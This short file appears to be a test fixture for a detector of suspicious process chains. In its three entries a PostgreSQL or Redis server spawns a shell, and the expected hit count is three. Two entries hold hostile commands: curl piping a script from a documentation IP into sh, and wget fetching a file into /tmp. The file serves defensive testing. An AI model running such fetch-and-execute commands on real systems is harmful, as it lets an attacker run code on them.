# SPDX-License-Identifier: Apache-2.0
# hits: 3
# fake: /usr/lib/postgresql/15/bin/postgres /usr/bin/redis-server /usr/bin/curl /usr/bin/wget
chain /usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql :: sh -c 'curl -s http://192.0.2.7/a | sh'
chain /usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql :: sh -c id
chain /usr/bin/redis-server 127.0.0.1:6379 :: sh -c 'wget -qO /tmp/x http://192.0.2.7/x'
